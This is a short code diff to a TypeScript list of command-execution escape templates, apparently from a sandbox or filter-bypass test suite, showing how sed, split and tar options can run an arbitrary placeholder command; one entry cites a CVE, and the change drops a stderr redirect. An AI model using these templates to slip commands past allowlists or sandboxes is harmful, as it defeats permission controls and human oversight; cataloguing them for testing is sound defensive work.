@@ -187,7 +187,7 @@ export const execs: readonly Escape[] = [
       'sed-substitute-execute': { template: "echo x | sed 's/x/{command}/e'", source: 'CVE-2025-64755' },
       split: { template: `echo | split --filter='{command}'`, needs: ['split'] },
       'tar-checkpoint': {
-        template: `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='{command}' /dev/null 2>/dev/null; true`,
+        template: `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='{command}' /dev/null; true`,
         needs: ['tar'],
       },
       'tar-compress': { template: `tar -cf - -I '{command}' -T /dev/null`, needs: ['tar'] },
